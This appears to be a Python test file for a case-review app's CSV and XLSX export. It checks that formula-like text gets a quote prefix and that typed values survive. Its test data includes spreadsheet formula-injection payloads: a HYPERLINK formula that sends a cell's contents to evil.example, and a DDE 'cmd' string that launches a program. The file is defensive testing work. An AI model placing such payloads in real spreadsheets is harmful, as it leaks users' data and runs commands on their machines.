"""CSV and XLSX export: read the files back and prove no formula survives."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from reviewhub.actions.export import (
    ACTION_PLAN_COLUMNS,
    Column,
    Sheet,
    csv_bytes,
    neutralise_cell,
    write_csv,
    write_xlsx,
    write_xlsx_workbook,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "\u00a0+1",
    "\uff1d1+1",
]
SAFE = ["Review the neglect pathway", "a=b", "email me@example.org", "", "3 - 2 = 1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_gets_a_quote_prefix(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_text_is_unchanged(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("value", [-5, 3.5, Decimal("-1.25"), 0, True, None, date(2025, 1, 1)])
def test_non_text_values_are_unchanged(value):
    assert neutralise_cell(value) is value


ROWS = [
    {
        "action": text,
        "lead_agency": "Police",
        "target_date": date(2025, 3, 31),
        "progress_percent": -5 if i == 0 else 40,
        "signed_off": i % 2 == 0,
    }
    for i, text in enumerate(DANGEROUS + SAFE)
]
COLUMNS = [
    ("action", "Action"),
    Column("lead_agency", "Lead agency"),
    ("target_date", "Target date"),
    ("progress_percent", "Progress (%)"),
    ("signed_off", "Signed off"),
    ("missing", "=Header"),
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_round_trip_neutralises_formulas_and_keeps_other_text():
    table = read_csv(csv_bytes(ROWS, COLUMNS))
    assert table[0] == [
        "Action",
        "Lead agency",
        "Target date",
        "Progress (%)",
        "Signed off",
        "'=Header",
    ]
    actions = [row[0] for row in table[1:]]
    assert actions == ["'" + t for t in DANGEROUS] + SAFE
    for row in table[1:]:
        for field in row[:3] + row[4:]:  # column 4 holds real numbers
            assert not field.lstrip(" \u00a0\t\r\n").startswith(("=", "+", "-", "@", "\uff1d"))


def test_csv_keeps_numbers_as_numbers_and_dates_as_iso():
    table = read_csv(csv_bytes(ROWS, COLUMNS))
    # A real negative number is data, not a formula, and must not get a quote.
    assert table[1][3] == "-5"
    assert table[1][2] == "2025-03-31"
    assert table[1][4] == "Yes" and table[2][4] == "No"
    assert table[1][5] == ""


def test_csv_starts_with_bom_for_excel_and_write_csv_returns_row_count():
    assert csv_bytes(ROWS, COLUMNS).startswith(b"\xef\xbb\xbf")
    out = io.StringIO(newline="")
    assert write_csv(ROWS, COLUMNS, out) == len(ROWS)
    assert out.getvalue().startswith('"Action"')


def test_csv_writes_aware_datetimes_in_uk_time():
    rows = [{"when": datetime(2025, 7, 1, 12, 0, tzinfo=UTC)}]
    assert read_csv(csv_bytes(rows, ["when"]))[1] == ["2025-07-01 13:00"]


def load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_has_no_formula_cells_and_keeps_neutralised_text():
    data = write_xlsx(ROWS, COLUMNS)
    ws = load(data).active
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    actions = [ws.cell(row=r, column=1).value for r in range(2, len(ROWS) + 2)]
    # An empty string is an empty cell in XLSX.
    assert actions == ["'" + t for t in DANGEROUS] + [t or None for t in SAFE]
    assert ws["F1"].value == "'=Header"
    # The raw sheet XML must hold no formula element at all.
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_xlsx_stores_real_dates_numbers_and_booleans():
    ws = load(write_xlsx(ROWS, COLUMNS)).active
    assert ws["C2"].is_date
    assert ws["C2"].value.date() == date(2025, 3, 31)
    assert ws["C2"].number_format == "yyyy-mm-dd"
    assert ws["D2"].value == -5 and ws["D2"].data_type == "n"
    assert ws["E2"].value is True


def test_xlsx_header_is_bold_frozen_and_filtered_with_sized_columns():
    ws = load(write_xlsx(ROWS, COLUMNS, sheet_title="Action plan")).active
    assert ws.title == "Action plan"
    assert all(ws.cell(row=1, column=c).font.b for c in range(1, 7))
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:F{len(ROWS) + 1}"
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert widths["A"] > widths["B"] >= 8
    assert all(w <= 60 for w in widths.values())


def test_xlsx_drops_control_characters_and_converts_aware_datetimes():
    rows = [{"a": "bell\x07 here", "b": datetime(2025, 1, 15, 9, 0, tzinfo=UTC)}]
    ws = load(write_xlsx(rows, ["a", "b"])).active
    assert ws["A2"].value == "bell here"
    assert ws["B2"].value == datetime(2025, 1, 15, 9, 0)  # GMT in January


def test_workbook_has_one_sheet_per_table_with_valid_unique_titles():
    data = write_xlsx_workbook(
        [
            Sheet("Actions by agency: RAG / totals", [{"n": 1}], ["n"]),
            Sheet("Actions by agency: RAG / totals", [{"n": 2}], ["n"]),
            Sheet("A very long title that exceeds Excel's thirty-one characters", [], ["n"]),
        ]
    )
    titles = load(data).sheetnames
    assert len(set(titles)) == 3
    assert all(len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles)


def test_action_plan_columns_export_lists_as_lines():
    row = {"action": "Update guidance", "milestones": ["Draft by May", "Sign-off by June"]}
    ws = load(write_xlsx([row], ACTION_PLAN_COLUMNS)).active
    headers = [c.value for c in ws[1]]
    assert "Evidence of impact" in headers and "RAG" in headers
    col = headers.index("Milestones") + 1
    assert ws.cell(row=2, column=col).value == "Draft by May\nSign-off by June"


def test_no_columns_is_an_error():
    with pytest.raises(ValueError):
        write_xlsx([], [])
